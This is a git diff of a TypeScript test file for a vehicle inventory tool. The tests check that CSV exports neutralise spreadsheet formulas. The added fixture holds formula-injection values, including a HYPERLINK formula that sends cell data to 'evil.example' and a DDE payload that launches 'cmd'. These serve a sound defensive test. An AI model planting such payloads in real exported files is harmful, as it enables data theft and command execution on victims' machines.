@@ -1,5 +1,6 @@
 import { readFile } from 'node:fs/promises'
 import { join } from 'node:path'
+import { parse } from 'csv-parse/sync'
 import fc from 'fast-check'
 import { describe, expect, test } from 'vitest'
 import { sampleInventory } from '../../sample/inventory.ts'
@@ -36,8 +37,24 @@ const awkward: StockedVehicle = {
     doors: false,
     word: 'true',
     vin: '12345678901234567',
+    load: '=1+1',
+    phone: '+1 844 555 0142',
+    offset: -5,
+    offsetText: '-5',
+    escaped: "'=1+1",
   },
   aliases: [],
+}
+
+/** Texts that a spreadsheet would compute. */
+const formulas: StockedVehicle = {
+  ...awkward,
+  id: 'formulas',
+  name: '=HYPERLINK("http://evil.example/?"&A1,"click")',
+  brand: "@SUM(1+1)*cmd|' /C calc'!A0",
+  category: '-2+3+cmd',
+  description: '+1-1\nsecond line',
+  features: ['=1+1', 'Roof'],
 }
 
 async function feed(name: 'inventory.csv' | 'inventory.json' | 'google-products.xml'): Promise<string> {
@@ -51,14 +68,14 @@ const read = (file: string) => imports.run(file, { keepMissing: false, pictures:
 
 describe.each(['inventory.csv', 'inventory.json'] as const)('/feeds/%s', (name) => {
   test('changes nothing when it comes back', async () => {
-    await addVehicles(imports.database.db, [awkward], () => new Date())
+    await addVehicles(imports.database.db, [awkward, formulas], () => new Date())
     expect(await read(await feed(name))).toMatchObject({
-      comparison: { added: 0, changed: 0, removed: 0, unchanged: sampleInventory.length + 1 },
+      comparison: { added: 0, changed: 0, removed: 0, unchanged: sampleInventory.length + 2 },
     })
   })
 
   test('makes the same stock where there is none: numbers stay numbers, and texts texts', async () => {
-    await addVehicles(imports.database.db, [awkward], () => new Date())
+    await addVehicles(imports.database.db, [awkward, formulas], () => new Date())
     const before = await imports.stock()
     const file = await feed(name)
     await vehicleTables(imports.database.db).deleteFrom('vehicles').execute()
@@ -77,7 +94,7 @@ test('our Google feed changes nothing when it comes back', async () => {
 })
 
 test('an export makes the same stock where there is none', async () => {
-  await addVehicles(imports.database.db, [awkward], () => new Date())
+  await addVehicles(imports.database.db, [awkward, formulas], () => new Date())
   const before = await imports.stock()
   for (const format of ['csv', 'json']) {
     const file = join(imports.folder, `exported.${format}`)
@@ -85,6 +102,16 @@ test('an export makes the same stock where there is none', async () => {
     await vehicleTables(imports.database.db).deleteFrom('vehicles').execute()
     await read(file)
     expect(await imports.stock()).toEqual(before)
+  }
+})
+
+test('no CSV holds a cell that a spreadsheet would compute', async () => {
+  await addVehicles(imports.database.db, [formulas], () => new Date())
+  const { out } = await larkwayAt(imports.database.location)('inventory', 'export')
+  for (const text of [out, await readFile(await feed('inventory.csv'), 'utf8')]) {
+    const cells: string[] = parse(text, { bom: true }).flat()
+    expect(cells).toContain(`'${formulas.name}`)
+    expect(cells.filter((cell) => /^[=+@-]/.test(cell) && !/^-?[\d.]+$/.test(cell))).toEqual([])
   }
 })
 
